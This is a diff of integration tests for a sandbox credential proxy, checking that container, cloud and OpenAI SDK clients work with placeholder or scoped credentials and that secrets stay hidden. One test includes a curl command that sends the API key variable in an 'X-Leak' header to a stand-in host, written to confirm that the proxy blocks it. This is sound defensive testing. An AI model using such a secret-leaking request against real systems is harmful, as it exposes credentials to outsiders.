@@ -30,6 +30,11 @@ protected:
         environment.push_back("NODE_PATH=" SALLYPORT_NPM_CLIENTS);
         return finish(guard.start({.argv = {"/bin/sh", "-ec", script}, .environment = environment, .working_directory = home}));
     }
+    static std::string client_file(const std::string& script) {
+        const std::string file = World::get().scratch() + "/client.py";
+        write_file(file, script);
+        return file;
+    }
     static Finished node(const Guard& guard, const std::string& script, std::vector<std::string> environment = {}) {
         const std::string file = World::get().scratch() + "/client.cjs";
         write_file(file, "(async () => {" + script + "})().catch((error) => console.log('failed', String(error)));\n");
@@ -175,6 +180,77 @@ TEST_F(Providers, TheAwsCliCopiesListsAndPresignsWithDummyKeys) {
     EXPECT_THAT(aws.out, AllOf(HasSubstr("no acl\n"), HasSubstr("no other bucket\n")));
     const std::string seen = seen_by("acme-data.s3.eu-west-1.amazonaws.com");
     EXPECT_THAT(seen, AllOf(HasSubstr(kAwsKeyId), Not(HasSubstr("AKIASALLYPORT0000000")), Not(HasSubstr("?acl"))));
+}
+
+// With no login inside: the client gets a token by itself, and what it gets is worth nothing elsewhere.
+TEST_F(Providers, SkopeoPushesAndPullsFromARegistryWithoutALogin) {
+    const std::string hub = "  hub: { type: registry, username: agent, password: \"${secrets.token}\", realm: \"https://auth.docker.io/token\" }\n";
+    Guard guard(policy("      - { use: docker-hub, credential: hub, repos: [acme/app], parts: [pull, push, token] }\n", {}, hub));
+    Finished skopeo = run(guard,
+                          "/usr/bin/python3 " SALLYPORT_SOURCE_DIR "/tests/integration/clients/make_image.py image;"
+                          "skopeo copy -q --insecure-policy dir:image docker://acme/app:1;"
+                          "skopeo inspect --format '{{.Architecture}} {{.Digest}}' docker://acme/app:1;"
+                          "skopeo copy -q --insecure-policy docker://acme/app:1 dir:back; cmp image/manifest.json back/manifest.json && echo same;"
+                          "skopeo inspect docker://eve/app:1 2>&1 || echo no other repository");
+    EXPECT_THAT(skopeo.out, AllOf(HasSubstr("amd64 sha256:"), HasSubstr("same\n"), HasSubstr("no other repository"))) << skopeo.err;
+    EXPECT_THAT(seen_by("registry-1.docker.io"), AllOf(HasSubstr("canary-of-the-registry"), Not(HasSubstr("/eve/"))));
+    EXPECT_THAT(skopeo.all(), Not(HasSubstr("canary-of-the-registry")));
+    Finished curl = guard.curl({"https://auth.docker.io/token?scope=repository:acme/app:pull"});
+    EXPECT_THAT(curl.out, AllOf(HasSubstr("\"token\""), Not(HasSubstr("canary-of-the-registry"))));
+}
+
+// R11: where the answer would hold a token that is the sandbox's to keep.
+TEST_F(Providers, R11_ATokenServiceIsDeniedToAPlainCredential) {
+    Guard guard(with("      - { host: auth.docker.io, credential: basic }\n"));
+    EXPECT_THAT(guard.curl({"https://auth.docker.io/token"}).out, HasSubstr("docker-hub/deny-keys"));
+    EXPECT_EQ(seen_by("auth.docker.io"), "");
+}
+
+TEST_F(Providers, GooglesClientFindsAMetadataServiceThatKnowsNoSecret) {
+    Guard guard(with("      - { host: [metadata.google.internal, 169.254.169.254], scheme: http, metadata: { gcp: bearer, project: acme } }\n"
+                     "      - { host: api.acme.example, credential: bearer }\n"));
+    Finished client = run(guard, "exec /usr/bin/python3 " + client_file(R"(
+import google.auth
+from google.auth.transport.requests import AuthorizedSession
+credentials, project = google.auth.default(scopes=["https://www.googleapis.com/auth/cloud-platform"])
+print(project, AuthorizedSession(credentials).get("https://api.acme.example/private").text.strip())
+)"));
+    EXPECT_EQ(client.out, "acme welcome\n") << client.err;
+}
+
+TEST_F(Providers, AwssClientsFindAMetadataServiceThatKnowsNoSecret) {
+    Process s3 = start_s3(world());
+    Guard guard(policy("      - { host: 169.254.169.254, scheme: http, metadata: { aws: bucket, region: eu-west-1, role: agent } }\n"
+                       "      - { use: aws-s3, credential: bucket, buckets: acme-data, regions: eu-west-1 }\n",
+                       {}, kBucket));
+    Finished client = run(guard, "exec /usr/bin/python3 " + client_file(R"(
+import botocore.session
+session = botocore.session.get_session()
+credentials = session.get_credentials()
+print(credentials.method)
+s3 = session.create_client("s3", region_name="eu-west-1")
+s3.put_object(Bucket="acme-data", Key="from/metadata", Body=b"hello")
+print(s3.get_object(Bucket="acme-data", Key="from/metadata")["Body"].read().decode())
+)"));
+    EXPECT_EQ(client.out, "iam-role\nhello\n") << client.err;
+}
+
+// The variable is set for the client, and holds what is worth nothing elsewhere.
+TEST_F(Providers, OpenaisSdkIsGivenAPlaceholder) {
+    const std::string credential = "  ai: { type: placeholder, secret: token, env: OPENAI_API_KEY, prefix: \"sk-\", in: [\"header:authorization\"] }\n";
+    const std::string directory = world().scratch();
+    write_file(directory + "/client.cjs", R"(
+const OpenAI = require("openai");
+new OpenAI({ maxRetries: 0 }).chat.completions.create({ model: "m", messages: [{ role: "user", content: "hello" }] })
+    .then((answer) => console.log(process.env.OPENAI_API_KEY.slice(0, 3), answer.choices[0].message.content), console.log);
+)");
+    Finished sdk = run_in_sandbox(policy("      - { use: openai, credential: ai }\n      - { host: open.acme.example }\n", {}, credential),
+                                  {"sh", "-c",
+                                   "export NODE_PATH=" SALLYPORT_NPM_CLIENTS "; node client.cjs;"
+                                   "curl -sS -H \"X-Leak: $OPENAI_API_KEY\" https://open.acme.example/echo"},
+                                  {.directory = directory});
+    EXPECT_THAT(sdk.out, HasSubstr("sk- you said hello with ")) << sdk.err;
+    EXPECT_THAT(sdk.out, HasSubstr("placeholder_misused"));
 }
 
 }  // namespace
